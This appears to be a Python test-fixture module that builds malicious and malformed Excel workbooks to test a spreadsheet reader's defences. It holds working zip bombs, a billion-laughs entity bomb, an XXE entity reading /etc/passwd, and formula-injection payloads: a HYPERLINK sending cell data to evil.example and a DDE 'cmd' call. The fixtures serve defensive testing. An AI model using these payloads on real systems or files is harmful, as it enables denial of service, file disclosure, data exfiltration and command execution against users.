"""Builders of hostile and broken workbook files, for the reader's tests and any other test.

Every builder takes a folder, writes one file into it and returns its path. `write_package`
writes a small, valid .xlsx from raw XML, so a test controls every byte Excel would write.
"""

from __future__ import annotations

import struct
import warnings
import zipfile
import zlib
from collections.abc import Iterable, Sequence
from pathlib import Path
from xml.sax.saxutils import escape

from perfreg_xlsx.form.fieldmap import template_version

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

CONTENT_TYPES = (
    DECL + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    DECL + f'<Relationships xmlns="{PKG}"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
STYLES = (
    DECL + f'<styleSheet xmlns="{MAIN}">'
    '<numFmts count="1"><numFmt numFmtId="164" formatCode="dd/mm/yyyy"/></numFmts>'
    '<cellStyleXfs count="1"><xf numFmtId="14"/></cellStyleXfs>'
    '<cellXfs count="4"><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="164"/>'
    '<xf numFmtId="3"/></cellXfs></styleSheet>'
)
# Style indices of STYLES: 0 General, 1 built-in date, 2 custom date, 3 "#,##0".
STYLE_GENERAL, STYLE_DATE, STYLE_CUSTOM_DATE, STYLE_THOUSANDS = 0, 1, 2, 3

# crc32 of 2**30 zero bytes (zlib.crc32 over them takes a quarter of a second).
_CRC_1GIB_ZEROS = 0x5B64C2B0


def sheet_xml(cells: str, *, merges: Sequence[str] = (), dimension: str = "A1") -> str:
    """A worksheet whose <sheetData> is `cells` (raw <row>/<c> XML)."""
    merged = ""
    if merges:
        inner = "".join(f'<mergeCell ref="{m}"/>' for m in merges)
        merged = f'<mergeCells count="{len(merges)}">{inner}</mergeCells>'
    return (
        DECL + f'<worksheet xmlns="{MAIN}" xmlns:r="{REL}"><dimension ref="{dimension}"/>'
        f"<sheetData>{cells}</sheetData>{merged}</worksheet>"
    )


def shared_strings_xml(strings: Iterable[str]) -> str:
    items = "".join(f"<si><t>{escape(s)}</t></si>" for s in strings)
    return DECL + f'<sst xmlns="{MAIN}">{items}</sst>'


def package_parts(
    sheets: Sequence[tuple[str, str]],
    *,
    shared_strings: str | None = None,
    states: dict[str, str] | None = None,
) -> list[tuple[str, bytes]]:
    """The parts of a workbook with `sheets` [(name, worksheet XML)], in Excel's order."""
    states = states or {}
    decls, rels, parts = [], [], []
    for i, (name, xml) in enumerate(sheets, start=1):
        state = f' state="{states[name]}"' if name in states else ""
        decls.append(f'<sheet name="{escape(name)}" sheetId="{i}"{state} r:id="rId{i}"/>')
        rels.append(
            f'<Relationship Id="rId{i}" Type="{REL}/worksheet" Target="worksheets/sheet{i}.xml"/>'
        )
        parts.append((f"xl/worksheets/sheet{i}.xml", xml.encode()))
    n = len(sheets)
    rels.append(f'<Relationship Id="rId{n + 1}" Type="{REL}/styles" Target="styles.xml"/>')
    if shared_strings is not None:
        rels.append(
            f'<Relationship Id="rId{n + 2}" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/>'
        )
        parts.append(("xl/sharedStrings.xml", shared_strings.encode()))
    workbook = (
        DECL + f'<workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets>{"".join(decls)}</sheets>'
        "</workbook>"
    )
    wb_rels = DECL + f'<Relationships xmlns="{PKG}">{"".join(rels)}</Relationships>'
    return [
        ("[Content_Types].xml", CONTENT_TYPES.encode()),
        ("_rels/.rels", ROOT_RELS.encode()),
        ("xl/workbook.xml", workbook.encode()),
        ("xl/_rels/workbook.xml.rels", wb_rels.encode()),
        ("xl/styles.xml", STYLES.encode()),
        *parts,
    ]


def write_zip(path: Path, parts: Iterable[tuple[str, bytes]]) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about duplicate names, on purpose here
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data in parts:
                zf.writestr(name, data)
    return path


def write_package(path: Path, sheets: Sequence[tuple[str, str]], **kwargs: object) -> Path:
    """A small valid .xlsx at `path` (see `package_parts`)."""
    return write_zip(path, package_parts(sheets, **kwargs))  # type: ignore[arg-type]


VALID_CELLS = (
    '<row r="2"><c r="E2"><v>2012</v></c></row>'
    '<row r="3"><c r="E3" t="s"><v>0</v></c></row>'
    '<row r="8"><c r="E8" t="inlineStr"><is><t>Netværk A</t></is></c></row>'
    '<row r="9"><c r="E9"><v>1250.5</v></c></row>'
)
# The version of the forms the program writes (a hash of the definition in force, issue 15).
VERSION = template_version()
VALID_VALUES: dict[str, object] = {"E2": 2012, "E3": VERSION, "E8": "Netværk A", "E9": 1250.5}


def valid(folder: Path, name: str = "valid.xlsx") -> Path:
    """A well-formed questionnaire-like workbook with VALID_VALUES on sheet "Skema"."""
    return write_package(
        folder / name,
        [("Skema", sheet_xml(VALID_CELLS))],
        shared_strings=shared_strings_xml([VERSION]),
    )


# --- Zip-level attacks ---------------------------------------------------------------------


def _raw_zip(path: Path, entries: Sequence[tuple[str, bytes, int, int, int]]) -> Path:
    """Write a zip by hand: entries (name, raw deflate data, crc, declared size, method).

    zipfile cannot write an entry whose declared size differs from its data, nor store
    already-compressed data, which is what a bomb needs.
    """
    out = bytearray()
    central = bytearray()
    for name, raw, crc, size, method in entries:
        nb = name.encode()
        offset = len(out)
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(raw), size, len(nb), 0
        )
        out += nb + raw
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50, 20, 20, 0, method, 0, 0x21, crc, len(raw), size,
            len(nb), 0, 0, 0, 0, 0, offset,
        )  # fmt: skip
        central += nb
    eocd = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), len(out), 0
    )
    path.write_bytes(bytes(out + central + eocd))
    return path


def _deflate_zeros_1gib() -> bytes:
    """Raw deflate of 2**30 zero bytes in ~1 MB, without compressing a gigabyte."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    mib = bytes(1 << 20)
    # After a full flush the compressor restarts, so every 1 MiB segment compresses alike.
    segment = c.compress(mib) + c.flush(zlib.Z_FULL_FLUSH)
    return segment * 1024 + c.flush()


def _bomb_entries(declared: int) -> list[tuple[str, bytes, int, int, int]]:
    normal = [
        (name, zlib.compress(data)[2:-4], zlib.crc32(data), len(data), 8)
        for name, data in package_parts([("Skema", "")])
        if not name.startswith("xl/worksheets/")
    ]
    bomb = ("xl/worksheets/sheet1.xml", _deflate_zeros_1gib(), _CRC_1GIB_ZEROS, declared, 8)
    return [*normal, bomb]


def zip_bomb(folder: Path) -> Path:
    """The sheet part honestly declares 1 GiB of zeros, compressed 1000:1."""
    return _raw_zip(folder / "zip_bomb.xlsx", _bomb_entries(1 << 30))


def zip_bomb_lying(folder: Path) -> Path:
    """The same gigabyte, but the directory claims the sheet unpacks to 10 kB."""
    return _raw_zip(folder / "zip_bomb_lying.xlsx", _bomb_entries(10_000))


def high_ratio(folder: Path) -> Path:
    """A 10 MB sheet part of spaces compressed over 500:1 (under the size limit, over ratio)."""
    filler = " " * (10 << 20)
    parts = package_parts([("Skema", sheet_xml(VALID_CELLS) + filler)])
    return write_zip(folder / "high_ratio.xlsx", parts)


def too_many_entries(folder: Path, n: int = 2001) -> Path:
    parts = package_parts([("Skema", sheet_xml(VALID_CELLS))])
    parts += [(f"customXml/item{i}.xml", b"<a/>") for i in range(n)]
    return write_zip(folder / "too_many_entries.xlsx", parts)


def duplicate_entries(folder: Path) -> Path:
    """Two sheet parts of the same name: which one Excel shows is anyone's guess."""
    parts = package_parts([("Skema", sheet_xml(VALID_CELLS))])
    evil = sheet_xml('<row r="9"><c r="E9"><v>999999</v></c></row>')
    parts.append(("xl/worksheets/sheet1.xml", evil.encode()))
    return write_zip(folder / "duplicate_entries.xlsx", parts)


def truncated(folder: Path) -> Path:
    """A valid workbook cut in half, as by a broken transfer."""
    data = valid(folder, "_whole.xlsx").read_bytes()
    (folder / "_whole.xlsx").unlink()
    path = folder / "truncated.xlsx"
    path.write_bytes(data[: len(data) // 2])
    return path


# --- Not a workbook at all -----------------------------------------------------------------


def empty(folder: Path) -> Path:
    path = folder / "empty.xlsx"
    path.write_bytes(b"")
    return path


def ole2(folder: Path) -> Path:
    """An OLE2 compound file, as an old .xls saved with an .xlsx name."""
    path = folder / "old_format.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"Workbook" + bytes(100))
    return path


def encrypted(folder: Path) -> Path:
    """What Excel writes for a password-protected workbook: OLE2 with an EncryptedPackage."""
    path = folder / "password.xlsx"
    body = "EncryptionInfo".encode("utf-16-le") + bytes(8) + "EncryptedPackage".encode("utf-16-le")
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + body + bytes(64))
    return path


def text_renamed(folder: Path) -> Path:
    path = folder / "export.xlsx"
    path.write_text("netværk;år;omsætning\nA;2012;100\n", encoding="utf-8")
    return path


def ods(folder: Path) -> Path:
    """An OpenDocument spreadsheet (its 'mimetype' entry first and stored), named .xlsx."""
    path = folder / "libreoffice.xlsx"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        zf.writestr("content.xml", "<office:document-content/>", zipfile.ZIP_DEFLATED)
    return path


def lock_file(folder: Path, of: str = "valid.xlsx") -> Path:
    """Excel's owner file beside an open workbook: the user name padded, 165 bytes."""
    path = folder / f"~${of}"
    path.write_bytes(b"\x0bJens Hansen" + b" " * 42 + bytes(111))
    return path


def macos_resource(folder: Path, of: str = "valid.xlsx") -> Path:
    path = folder / f"._{of}"
    path.write_bytes(b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        " + bytes(64))
    return path


# --- XML-level attacks ---------------------------------------------------------------------

_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>\n"
)


def entity_bomb_strings(folder: Path) -> Path:
    """ "Billion laughs" in the shared strings, referenced by a wanted cell."""
    sst = _LAUGHS + f'<sst xmlns="{MAIN}"><si><t>&lol9;</t></si></sst>'
    sheet = sheet_xml('<row r="8"><c r="E8" t="s"><v>0</v></c></row>')
    return write_package(folder / "entity_bomb.xlsx", [("Skema", sheet)], shared_strings=sst)


def entity_bomb_sheet(folder: Path) -> Path:
    body = sheet_xml('<row r="8"><c r="E8" t="inlineStr"><is><t>&lol9;</t></is></c></row>')
    xml = _LAUGHS + body.removeprefix(DECL)
    return write_package(folder / "entity_bomb_sheet.xlsx", [("Skema", xml)])


def external_entity(folder: Path) -> Path:
    """An external entity pointing at a local file: must never be resolved."""
    body = sheet_xml('<row r="8"><c r="E8" t="inlineStr"><is><t>&xxe;</t></is></c></row>')
    xml = (
        '<?xml version="1.0"?>\n<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        + body.removeprefix(DECL)
    )
    return write_package(folder / "external_entity.xlsx", [("Skema", xml)])


def malformed_sheet(folder: Path) -> Path:
    xml = sheet_xml(VALID_CELLS).replace("</sheetData>", "</sheetDta>")
    return write_package(folder / "malformed.xlsx", [("Skema", xml)])


def huge_dimension(folder: Path) -> Path:
    """A sheet claiming the whole grid, with one real cell at its last address."""
    cells = VALID_CELLS + '<row r="1048576"><c r="XFD1048576"><v>7</v></c></row>'
    xml = sheet_xml(cells, dimension="A1:XFD1048576")
    return write_package(
        folder / "huge_dimension.xlsx",
        [("Skema", xml)],
        shared_strings=shared_strings_xml([VERSION]),
    )


def hidden_sheet(folder: Path) -> Path:
    """The form plus a hidden and a very hidden sheet (e.g. someone's own workings)."""
    return write_package(
        folder / "hidden_sheet.xlsx",
        [
            ("Skema", sheet_xml(VALID_CELLS)),
            ("Beregning", sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row>')),
            ("Makro", sheet_xml("")),
        ],
        shared_strings=shared_strings_xml([VERSION]),
        states={"Beregning": "hidden", "Makro": "veryHidden"},
    )


def merged_answer(folder: Path) -> Path:
    """The answer cell E9 merged with its neighbour; A1:C1 merged too but not an answer."""
    xml = sheet_xml(VALID_CELLS, merges=["A1:C1", "E9:F9"])
    return write_package(
        folder / "merged.xlsx", [("Skema", xml)], shared_strings=shared_strings_xml([VERSION])
    )


INJECTED = {
    "E8": 'HYPERLINK("http://evil.example/?"&E9,"Klik her")',
    "E9": "cmd|' /C calc'!A0",
}


def injected_formulas(folder: Path) -> Path:
    """Text answers replaced by formulas an attacker would like someone to open and run."""
    cells = (
        '<row r="8"><c r="E8" t="str"><f>'
        + escape(INJECTED["E8"])
        + "</f><v>Klik her</v></c></row>"
        '<row r="9"><c r="E9"><f>' + escape(INJECTED["E9"]) + "</f><v>0</v></c></row>"
        '<row r="10"><c r="E10" t="inlineStr"><is><t>=cmd|\' /C calc\'!A0</t></is></c></row>'
    )
    return write_package(folder / "injected.xlsx", [("Skema", sheet_xml(cells))])


def corrupt_entry(folder: Path) -> Path:
    """A valid workbook with bytes of its compressed sheet part overwritten (bit rot)."""
    path = valid(folder, "corrupt.xlsx")
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo("xl/worksheets/sheet1.xml")
    # Local header: 30 bytes plus the name; the compressed data follows.
    start = info.header_offset + 30 + len(info.filename.encode())
    for i in range(start, start + info.compress_size - 2, 3):
        data[i] ^= 0x5A
    path.write_bytes(bytes(data))
    return path
